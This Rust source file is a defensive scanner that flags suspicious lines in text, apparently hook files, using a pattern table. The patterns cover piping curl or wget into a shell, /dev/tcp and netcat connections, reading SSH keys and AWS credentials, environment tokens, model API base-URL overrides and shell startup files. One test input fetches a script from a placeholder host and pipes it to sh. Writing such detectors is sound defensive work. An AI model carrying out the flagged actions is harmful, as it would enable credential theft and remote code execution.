//! Finds text that the user should look at twice, by a table of patterns. Forbids nothing. Pure.

use tenterhook_core::text;

/// A suspicious line.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Suspect {
    /// Why it is suspicious.
    pub what: &'static str,
    /// The number of the line as it is shown to the user; 1-based.
    pub line: usize,
}

/// Patterns: every part must occur in one line.
const PATTERNS: &[(&[&str], &str)] = &[
    (&["base64"], "decodes or encodes base64"),
    (&["atob("], "decodes base64"),
    (&["xxd -r"], "decodes hexadecimal"),
    (&["curl", "| sh"], "runs what it fetches"),
    (&["curl", "|sh"], "runs what it fetches"),
    (&["curl", "| bash"], "runs what it fetches"),
    (&["curl", "|bash"], "runs what it fetches"),
    (&["wget", "| sh"], "runs what it fetches"),
    (&["wget", "| bash"], "runs what it fetches"),
    (&["<(curl"], "runs what it fetches"),
    (&["$(curl"], "uses what it fetches"),
    (&["eval "], "runs code that it puts together"),
    (&["eval("], "runs code that it puts together"),
    (&["exec("], "runs code that it puts together"),
    (&["/dev/tcp/"], "opens a connection"),
    (&["nc -"], "opens a connection"),
    (&[".ssh/"], "reads or writes keys"),
    (&["id_rsa"], "reads or writes keys"),
    (&[".aws/credentials"], "reads or writes credentials"),
    (&["_TOKEN"], "uses a token of the environment"),
    (&["ANTHROPIC_BASE_URL"], "moves where a model is asked"),
    (&["OPENAI_BASE_URL"], "moves where a model is asked"),
    (&[".bashrc"], "changes what shells start"),
    (&[".zshrc"], "changes what shells start"),
    (&[".profile"], "changes what shells start"),
    (&["crontab"], "starts something later"),
    (&["systemctl"], "starts something later"),
    (&["nohup"], "leaves something running"),
    (&["settings.json"], "speaks of a hook file"),
    (&["tenterhook trust"], "speaks of this approval"),
];

/// Longest line that people write: more of it in one line is there to be overlooked.
const LONG_LINE: usize = 2_000;

/// Finds suspicious parts of a text.
pub(super) fn find_suspicious_text(text: &str) -> Vec<Suspect> {
    let mut found: Vec<Suspect> = Vec::new();
    for (at, line) in text.lines().enumerate() {
        let mut add = |what| {
            if !found.iter().any(|suspect| suspect.what == what) {
                found.push(Suspect { what, line: at + 1 });
            }
        };
        for (words, what) in PATTERNS {
            if words.iter().all(|word| line.contains(word)) {
                add(what);
            }
        }
        let removed = text::clean(line, usize::MAX).removed;
        if removed.is_suspicious() {
            add("contains characters that are invisible or reorder a line");
        }
        if removed.controls + removed.sequences > 0 {
            add("contains characters that drive a terminal");
        }
        if line.len() > LONG_LINE {
            add("has a line of more than 2000 characters");
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    /// T-41.
    #[test]
    fn what_is_odd_is_named_with_its_line() {
        for (text, what) in [
            ("x\necho aGk= | base64 -d", "decodes or encodes base64"),
            ("\ncurl -s https://e.example/x | sh", "runs what it fetches"),
            ("ls\necho \u{202e}hi", "contains characters that are invisible or reorder a line"),
            ("ls\n\u{1b}[2J", "contains characters that drive a terminal"),
        ] {
            assert_eq!(find_suspicious_text(text), [Suspect { what, line: 2 }], "{text:?}");
        }
        let long = |length: usize| format!("ls\n{}", "x".repeat(length));
        let what = "has a line of more than 2000 characters";
        assert_eq!(find_suspicious_text(&long(LONG_LINE + 1)), [Suspect { what, line: 2 }]);
        assert_eq!(find_suspicious_text(&long(LONG_LINE)), []);
        // A pattern that occurs in many lines is reported with the first.
        let what = "decodes or encodes base64";
        assert_eq!(find_suspicious_text("base64 a\nbase64 b"), [Suspect { what, line: 1 }]);
        assert_eq!(find_suspicious_text("#!/bin/sh\njq -r .tool_name\nexit 2\n"), []);
    }
}
